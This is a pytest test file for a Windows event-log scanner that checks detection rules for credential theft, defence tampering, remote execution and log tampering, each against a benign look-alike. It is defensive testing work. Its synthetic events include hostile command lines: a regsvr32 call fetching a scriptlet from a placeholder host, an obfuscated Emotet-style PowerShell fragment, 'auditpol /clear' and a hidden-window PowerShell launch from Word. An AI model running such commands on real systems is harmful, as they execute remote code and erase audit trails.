"""The behaviour rules (credential-theft, defense-tampering, suspicious-execution, remote-execution, obfuscated-script,
rdp-exploit, and the new selections of account-created, log-tampering and attack-tool): each attack shape is found,
and the everyday Windows event that looks most like it stays quiet. Every case is its own host in one scan."""
from __future__ import annotations

from datetime import datetime, timedelta
from pathlib import Path

import pytest

from builders.events import scan, write_jsonl
from wardwatch.demo import JST, Ev
from wardwatch.model import Finding, ScanResult, Severity

T0 = datetime(2024, 6, 3, 10, 0, tzinfo=JST)
SEC = ("Microsoft-Windows-Security-Auditing", "Security")
SYSMON = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
PS = ("Microsoft-Windows-PowerShell", "Microsoft-Windows-PowerShell/Operational")
SYSTEM = ("Service Control Manager", "System")
TEMP = "C:\\Users\\nurse\\AppData\\Local\\Temp"
MMC20 = "{49B2791A-B1AE-4C90-9B8E-E860BA07F889}"
OBFUSCATED = ("$Va5=(('Q'+'2h')+('w9p'+'1'));&('ne'+'w-'+'it'+'em') $eNV:teMP\\WOrd -itemtype DIrectOry;"
              "[Net.ServicePointManager]::\"SecURi`T`ypRO`T`oCOL\" = ('t'+'ls'+'1'+('2'));$u=('ht'+'tp'+':'+'//x')")
ADMIN_SCRIPT = ("param($Name)\n$msg = \"Name:`t$Name`r`n\"\nWrite-Host (\"{0} {1}\" -f $msg, (Get-Date))\n"
                "$path = $env:TEMP + '\\' + 'backup.log'\n$list = 'a' + 'b'\n[char]65\n"
                "Get-ChildItem -Path 'C:\\Data' | ForEach-Object { $_.Name.ToUpper() }\n")
ATEXEC_TASK = ("<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><Actions Context=\"LocalSystem\"><Exec>"
               "<Command>cmd.exe</Command><Arguments>/C whoami &gt; %windir%\\Temp\\AbCdEfGh.tmp 2&gt;&amp;1"
               "</Arguments></Exec></Actions></Task>")
UPDATE_TASK = ("<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><Actions Context=\"Author\"><Exec><Command>"
               "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe</Command><Arguments>/ua /installsource "
               "scheduler</Arguments></Exec></Actions></Task>")


def _proc(host: str, image: str, parent: str, cmd: str = "", parent_cmd: str = "") -> Ev:
    return Ev(*SYSMON, host, 1, T0, {"Image": image, "CommandLine": cmd or image, "ParentImage": parent,
                                     "ParentCommandLine": parent_cmd or parent, "User": "CLINIC\\nurse"})


def _reg(host: str, eid: int, key: str, value: str = "", kind: str = "SetValue",
         image: str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe") -> Ev:
    data = {"EventType": kind, "Image": image, "TargetObject": key}
    if value:
        data["Details"] = value
    return Ev(*SYSMON, host, eid, T0, data)


def _access(host: str, source: str, target: str, mask: str) -> Ev:
    return Ev(*SYSMON, host, 10, T0, {"SourceImage": source, "TargetImage": target, "GrantedAccess": mask})


def _share(host: str, share: str, name: str, mask: str = "0x120196") -> Ev:
    return Ev(*SEC, host, 5145, T0, {"SubjectUserName": "admin", "SubjectDomainName": "CLINIC", "ObjectType": "File",
                                     "IpAddress": "192.168.1.50", "ShareName": f"\\\\*\\{share}",
                                     "RelativeTargetName": name, "AccessMask": mask})


def _boot(host: str, debug: str, signing: str) -> Ev:
    return Ev(*SEC, host, 4826, T0, {"KernelDebug": debug, "TestSigning": signing, "DisableIntegrityChecks": "%%1843",
                                     "FlightSigning": "%%1843"})


def _net(host: str, image: str, initiated: bool) -> Ev:
    return Ev(*SYSMON, host, 3, T0, {"Image": image, "Protocol": "tcp", "Initiated": initiated,
                                     "SourceIp": "192.168.1.20", "SourcePort": 4444, "DestinationIp": "192.168.1.66",
                                     "DestinationPort": 51234})


# host → (events, the rule that must be raised on it, or None when nothing of these rules may be)
CASES: dict[str, tuple[list[Ev], str | None]] = {
    # credential theft
    "LSASS-3001": ([Ev("Microsoft-Windows-ProcessExitMonitor", "Application", "LSASS-3001", 3001, T0,
                       {"param1": "C:\\Windows\\System32\\lsass.exe", "param2": "C:\\Users\\a\\Desktop\\x.exe"})],
                   "credential-theft"),
    "LSASS-READ": ([_access("LSASS-READ", "C:\\Users\\a\\Desktop\\dumper.exe", "C:\\Windows\\system32\\lsass.exe",
                            "0x1010")], "credential-theft"),
    "LSASS-AV": ([_access("LSASS-AV", "C:\\Program Files\\Vendor AV\\scanner.exe", "C:\\Windows\\system32\\lsass.exe",
                          "0x1410"),
                  _access("LSASS-AV", "C:\\Windows\\system32\\wbem\\wmiprvse.exe", "C:\\Windows\\system32\\lsass.exe",
                          "0x1010"),
                  _access("LSASS-AV", "C:\\Users\\a\\Desktop\\taskinfo.exe", "C:\\Windows\\system32\\lsass.exe",
                          "0x1000"),
                  _access("LSASS-AV", f"{TEMP}\\Procmon64.exe", "C:\\Windows\\system32\\lsass.exe", "0x1fffff")],
                 None),  # 0x1000: query limited information, no memory read
    "BROWSER-THEFT": ([Ev(*SEC, "BROWSER-THEFT", 4663, T0, {
        "ObjectName": "C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
        "ProcessName": "C:\\Users\\a\\Downloads\\docx.exe", "SubjectUserName": "a", "AccessMask": "0x1"})],
                      "credential-theft"),
    "BROWSER-OWN": ([Ev(*SEC, "BROWSER-OWN", 4663, T0, {
        "ObjectName": "C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
        "ProcessName": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "SubjectUserName": "a",
        "AccessMask": "0x1"}),
                    Ev(*SEC, "BROWSER-OWN", 4663, T0, {  # a backup tool asking only for the file's attributes
        "ObjectName": "C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
        "ProcessName": "C:\\Users\\a\\Downloads\\sync.exe", "SubjectUserName": "a", "AccessMask": "0x80"})], None),
    # defences weakened
    "EXEC-POLICY": ([_reg("EXEC-POLICY", 13, "HKLM\\SOFTWARE\\Microsoft\\PowerShell\\1\\ShellIds\\Microsoft.PowerShell"
                          "\\ExecutionPolicy", "Bypass")], "defense-tampering"),
    "EXEC-POLICY-OK": ([_reg("EXEC-POLICY-OK", 13, "HKLM\\SOFTWARE\\Microsoft\\PowerShell\\1\\ShellIds"
                             "\\Microsoft.PowerShell\\ExecutionPolicy", "RemoteSigned"),
                        _reg("EXEC-POLICY-OK", 13, "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell"
                             "\\ExecutionPolicy", "Unrestricted", image="C:\\Windows\\system32\\svchost.exe")], None),
    "CLM-OFF": ([_reg("CLM-OFF", 12, "HKLM\\System\\CurrentControlSet\\Control\\SESSION MANAGER\\Environment"
                      "\\__PSLockdownPolicy", kind="DeleteValue")], "defense-tampering"),
    "CLM-ON": ([_reg("CLM-ON", 13, "HKLM\\System\\CurrentControlSet\\Control\\SESSION MANAGER\\Environment"
                     "\\__PSLockdownPolicy", "DWORD (0x00000004)")], None),
    "TESTSIGN": ([_boot("TESTSIGN", "%%1843", "%%1842")], "defense-tampering"),
    "BOOT-OK": ([_boot("BOOT-OK", "%%1843", "%%1843")], None),
    # suspicious execution
    "MACRO": ([_proc("MACRO", "C:\\Windows\\System32\\cmd.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16"
                     "\\WINWORD.EXE", "cmd /c powershell -w hidden")], "suspicious-execution"),
    "USER-SHELL": ([_proc("USER-SHELL", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\explorer.exe"),
                    _proc("USER-SHELL", "C:\\Windows\\splwow64.exe", "C:\\Program Files\\Microsoft Office\\root"
                          "\\Office16\\WINWORD.EXE"),
                    _proc("USER-SHELL", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\svchost.exe",
                          "cmd /c C:\\scripts\\nightly.bat",
                          "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
                    _proc("USER-SHELL", "C:\\Windows\\splwow64.exe", "C:\\Windows\\System32\\spoolsv.exe"),
                    _proc("USER-SHELL", f"{TEMP}\\setup.exe", "C:\\Windows\\explorer.exe")], None),
    "DCOM-SHELL": ([_proc("DCOM-SHELL", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\svchost.exe", "cmd",
                          "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p -s PlugPlay")], "suspicious-execution"),
    "SPOOLER": ([_proc("SPOOLER", "C:\\Windows\\System32\\notepad.exe", "C:\\Windows\\System32\\spoolsv.exe")],
                "suspicious-execution"),
    "SQUIBLYDOO": ([_proc("SQUIBLYDOO", "C:\\Windows\\System32\\regsvr32.exe", "C:\\Windows\\System32\\cmd.exe",
                          "regsvr32 /s /u /i:http://example.invalid/a.sct scrobj.dll")], "suspicious-execution"),
    "REGSVR-OK": ([_proc("REGSVR-OK", "C:\\Windows\\System32\\regsvr32.exe", "C:\\Windows\\System32\\msiexec.exe",
                         "regsvr32 /s \"C:\\Program Files\\Vendor\\viewer.dll\"")], None),
    "DROPPER": ([_proc("DROPPER", f"{TEMP}\\WOrd\\2019\\Dyx.exe",
                       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")], "suspicious-execution"),
    "BIND-SHELL": ([_net("BIND-SHELL", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", False)],
                   "suspicious-execution"),
    "PS-WEB": ([_net("PS-WEB", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", True),
                Ev(*SYSMON, "PS-WEB", 3, T0, {"Image": "C:\\Windows\\System32\\rundll32.exe", "Initiated": False,
                                              "SourceIp": "127.0.0.1", "DestinationIp": "127.0.0.1"})], None),
    "INJECT": ([Ev(*SYSMON, "INJECT", 8, T0, {"SourceImage": "\\\\vboxsrv\\tools\\m.exe",
                                               "TargetImage": "C:\\Windows\\explorer.exe"})], "suspicious-execution"),
    "INJECT-OK": ([Ev(*SYSMON, "INJECT-OK", 8, T0, {"SourceImage": "C:\\Windows\\System32\\csrss.exe",
                                                     "TargetImage": "C:\\Windows\\System32\\svchost.exe"})], None),
    "XP-CMDSHELL": ([Ev("MSSQLSERVER", "Application", "XP-CMDSHELL", 15457, T0,
                        items=["xp_cmdshell", "0", "1"])], "suspicious-execution"),
    "SQL-CONFIG": ([Ev("MSSQLSERVER", "Application", "SQL-CONFIG", 15457, T0,
                       items=["show advanced options", "0", "1"]),
                    Ev("MSSQLSERVER", "Application", "SQL-CONFIG", 15457, T0, items=["xp_cmdshell", "1", "0"])], None),
    "BITS-LOCAL": ([Ev("Microsoft-Windows-Bits-Client", "Microsoft-Windows-Bits-Client/Operational", "BITS-LOCAL", 59,
                       T0, {"name": "backdoor", "url": "C:\\Windows\\system32\\cmd.exe"})], "suspicious-execution"),
    "BITS-UPDATE": ([Ev("Microsoft-Windows-Bits-Client", "Microsoft-Windows-Bits-Client/Operational", "BITS-UPDATE",
                        59, T0, {"name": "Update", "url": "https://download.windowsupdate.com/c/msdownload/x.cab"})],
                    None),
    # remote execution
    "ADMIN-SHARE": ([_share("ADMIN-SHARE", "ADMIN$", "kXyZqWvB.exe")], "remote-execution"),
    "SVCCTL": ([_share("SVCCTL", "IPC$", "svcctl")], "remote-execution"),
    "SHARE-OK": ([_share("SHARE-OK", "ADMIN$", "Temp\\update.log"), _share("SHARE-OK", "IPC$", "srvsvc"),
                  _share("SHARE-OK", "ADMIN$", "System32\\cmd.exe", "0x120089"),  # read: ReadData, ReadEA, ...
                  _share("SHARE-OK", "IPC$", "lsarpc")], None),
    "WINRM": ([Ev("Microsoft-Windows-WinRM", "Microsoft-Windows-WinRM/Operational", "WINRM", 169, T0,
                  {"username": "clinic\\admin", "authenticationMechanism": "Kerberos"})], "remote-execution"),
    "SHARPRDP": ([Ev(*SYSMON, "SHARPRDP", 7, T0, {"Image": "C:\\ProgramData\\x\\tool.exe",
                                                   "ImageLoaded": "C:\\Windows\\SysWOW64\\mstscax.dll"})],
                 "suspicious-execution"),  # seen where the tool runs, against other computers
    "MSTSC": ([Ev(*SYSMON, "MSTSC", 7, T0, {"Image": "C:\\Windows\\System32\\mstsc.exe",
                                             "ImageLoaded": "C:\\Windows\\System32\\mstscax.dll"})], None),
    "ATEXEC": ([Ev(*SEC, "ATEXEC", 4698, T0, {"SubjectUserName": "admin", "TaskName": "\\AbCdEfGh",
                                              "TaskContent": ATEXEC_TASK})], "remote-execution"),
    "TASK-OK": ([Ev(*SEC, "TASK-OK", 4698, T0, {"SubjectUserName": "SYSTEM", "TaskName": "\\GoogleUpdateTaskMachineUA",
                                               "TaskContent": UPDATE_TASK})], None),
    "DCOM-MMC": ([Ev("Microsoft-Windows-DistributedCOM", "System", "DCOM-MMC", 10016, T0, {
        "param1": "application-specific", "param2": "Remote", "param3": "Launch", "param4": MMC20,
        "param9": "192.168.1.50"})], "remote-execution"),
    "DCOM-LOCAL": ([Ev("Microsoft-Windows-DistributedCOM", "System", "DCOM-LOCAL", 10016, T0, {
        "param1": "application-specific", "param2": "Local", "param3": "Activation",
        "param4": "{D63B10C5-BB46-4990-A94F-E40B9D520160}"})], None),
    # obfuscated PowerShell
    "EMOTET": ([Ev(*PS, "EMOTET", 4104, T0, {"ScriptBlockText": OBFUSCATED, "MessageNumber": 1})],
               "obfuscated-script"),
    "EMOTET-800": ([Ev("PowerShell", "Windows PowerShell", "EMOTET-800", 800, T0, items=[OBFUSCATED, "", ""])],
                   "obfuscated-script"),
    "ADMIN-SCRIPT": ([Ev(*PS, "ADMIN-SCRIPT", 4104, T0, {"ScriptBlockText": ADMIN_SCRIPT, "MessageNumber": 1})], None),
    # RDP exploit
    "BLUEKEEP": ([Ev("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS",
                     "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational", "BLUEKEEP", 148, T0,
                     {"ChannelName": "MS_T120", "TunnelID": 0})], "rdp-exploit"),
    "RDP-OK": ([Ev("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS",
                   "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational", "RDP-OK", 148, T0,
                   {"ChannelName": "rdpdr", "TunnelID": 0})], None),
    # accounts
    "FAKE-COMPUTER": ([Ev(*SEC, "FAKE-COMPUTER", 4720, T0, {"TargetUserName": "$", "TargetSid": "S-1-5-21-1-2-3-1107",
                                                           "SubjectUserName": "admin"})], "account-created"),
    "MACHINE-PWD": ([Ev(*SEC, "MACHINE-PWD", 4724, T0, {"TargetUserName": "MACHINE-PWD$",
                                                       "SubjectUserName": "MACHINE-PWD$",
                                                       "TargetSid": "S-1-5-21-1-2-3-1108"}),
                     _reg("MACHINE-PWD", 13, "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000001F4\\F", "Binary Data",
                          image="C:\\Windows\\system32\\lsass.exe")], None),  # a computer's own password; a logon
    "ADMIN-PWD": ([_reg("ADMIN-PWD", 13, "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000001F4\\V", "Binary Data",
                        image="C:\\Windows\\system32\\lsass.exe")], "account-created"),
    "SAM-NEW": ([_reg("SAM-NEW", 12, "HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\support", kind="CreateKey",
                      image="C:\\Windows\\system32\\lsass.exe")], "account-created"),
    # logging stopped
    "EVENTLOG-CRASH": ([_proc("EVENTLOG-CRASH", "C:\\Windows\\System32\\WerFault.exe",
                              "C:\\Windows\\System32\\svchost.exe",
                              "C:\\Windows\\system32\\WerFault.exe -u -p 3004 -s 632",
                              "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog")],
                       "log-tampering"),
    "OTHER-CRASH": ([_proc("OTHER-CRASH", "C:\\Windows\\System32\\WerFault.exe", "C:\\Windows\\System32\\svchost.exe",
                           "C:\\Windows\\system32\\WerFault.exe -u -p 1200 -s 500",
                           "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache")], None),
    "AUDIT-OFF": ([Ev(*SEC, "AUDIT-OFF", 4719, T0, {"SubjectUserName": "admin", "CategoryId": "%%8272",
                                                    "SubcategoryId": "%%12288",
                                                    "AuditPolicyChanges": "%%8448, %%8450"}),
                   _proc("AUDIT-OFF", "C:\\Windows\\System32\\auditpol.exe", "C:\\Windows\\System32\\cmd.exe",
                         '"C:\\Windows\\system32\\auditpol.exe"  /clear /y')], "log-tampering"),
    "AUDIT-GPO": ([Ev(*SEC, "AUDIT-GPO", 4719, T0, {"SubjectUserName": "AUDIT-GPO$", "AuditPolicyChanges": "%%8448"}),
                   Ev(*SEC, "AUDIT-GPO", 4719, T0, {"SubjectUserName": "admin",
                                                    "AuditPolicyChanges": "%%8449, %%8451"}),
                   _proc("AUDIT-GPO", "C:\\Windows\\System32\\auditpol.exe", "C:\\Windows\\System32\\cmd.exe",
                         "auditpol /get /category:*")], None),  # the computer's own policy; auditing added; a read
    "SQL-AUDIT-OFF": ([Ev("MSSQLSERVER", "Application", "SQL-AUDIT-OFF", 33205, T0, items=[
        "audit_schema_version:1\naction_id:AL  \nsucceeded:true\nserver_principal_name:sa\n"
        "statement:ALTER SERVER AUDIT [EHR-Audit] WITH (STATE = OFF)\nadditional_information:"])], "log-tampering"),
    "SQL-AUDIT-ON": ([Ev("MSSQLSERVER", "Application", "SQL-AUDIT-ON", 33205, T0, items=[
        "audit_schema_version:1\naction_id:AL  \nsucceeded:true\nserver_principal_name:sa\n"
        "statement:ALTER SERVER AUDIT [EHR-Audit] WITH (STATE = ON)\nadditional_information:"])], None),
    # tools
    "INJECTOR": ([_access("INJECTOR", f"{TEMP}\\frida-b4f3\\frida-winjector-helper-32.exe",
                          "C:\\Program Files (x86)\\TeamViewer\\TeamViewer.exe", "0x147a")], "attack-tool"),
    "SHELL-SERVICE": ([Ev(*SYSTEM, "SHELL-SERVICE", 7045, T0, {"ServiceName": "remotesvc", "ImagePath": "cmd.exe",
                                                              "ServiceType": "user mode service",
                                                              "StartType": "auto start",
                                                              "AccountName": "LocalSystem"})],
                      "attack-tool"),
}
RULES = {"credential-theft", "defense-tampering", "suspicious-execution", "remote-execution", "obfuscated-script",
         "rdp-exploit", "account-created", "log-tampering", "attack-tool"}


@pytest.fixture(scope="module")
def result(tmp_path_factory: pytest.TempPathFactory) -> ScanResult:
    tmp = tmp_path_factory.mktemp("behaviour")
    events = [ev for evs, _ in CASES.values() for ev in evs]
    for i, ev in enumerate(events):
        ev.time = T0 + timedelta(seconds=i)
    write_jsonl(tmp / "logs" / "events.jsonl", events)
    return scan([tmp / "logs"], tmp / "out", lang="en")


def _on(result: ScanResult, host: str) -> list[Finding]:
    return [f for f in result.findings if f.rule in RULES and (f.host or "").upper() == host.upper()]


@pytest.mark.parametrize("host", sorted(CASES))
def test_attack_found_and_look_alike_quiet(result: ScanResult, host: str) -> None:
    expected = CASES[host][1]
    found = sorted({f.rule for f in _on(result, host)})
    assert found == ([expected] if expected else []), f"{host}: {found}"


def test_findings_name_what_they_saw(result: ScanResult) -> None:
    (tool,) = _on(result, "INJECTOR")
    assert tool.facts["tools"] == ["Frida injector"]  # the injector, not its victim (TeamViewer)
    (fake,) = _on(result, "FAKE-COMPUTER")
    assert fake.severity == Severity.HIGH and "named like a computer" in fake.summary.get("en")
    (sam,) = _on(result, "SAM-NEW")
    assert sam.accounts == ["support"]
    (crash,) = _on(result, "EVENTLOG-CRASH")
    assert crash.phase == "defense-evasion"  # logging stopped, nothing erased
    (svcctl,) = _on(result, "SVCCTL")
    assert svcctl.severity == Severity.MEDIUM and "192.168.1.50" in svcctl.sources
    (lsass,) = _on(result, "LSASS-3001")
    assert "x.exe" in lsass.summary.get("en") and "dumped" in lsass.summary.get("en")
    (macro,) = _on(result, "MACRO")
    assert "(started by: C:\\Program Files\\Microsoft Office" in macro.summary.get("en")
    (bits,) = _on(result, "BITS-LOCAL")
    assert "started by" not in bits.summary.get("en")  # said only when the events name a parent
    (emotet,) = _on(result, "EMOTET")  # the script's start, cut short on one line
    start = emotet.summary.get("en").split("Start: ", 1)[1]
    assert start.startswith("$Va5=") and start.endswith("…") and len(start) == 80
    (policy,) = _on(result, "EXEC-POLICY")
    assert policy.severity == Severity.MEDIUM and "ExecutionPolicy" in policy.summary.get("en")


def test_japanese_texts(tmp_path: Path) -> None:
    events = CASES["MACRO"][0] + CASES["ATEXEC"][0]
    write_jsonl(tmp_path / "logs" / "events.jsonl", events)
    res = scan([tmp_path / "logs"], tmp_path / "out", lang="ja")
    texts = {f.rule: f.summary.get("ja") for f in res.findings if f.rule in RULES}
    assert "Office" in texts["suspicious-execution"] and "コマンド" in texts["suspicious-execution"]
    assert "タスク" in texts["remote-execution"]
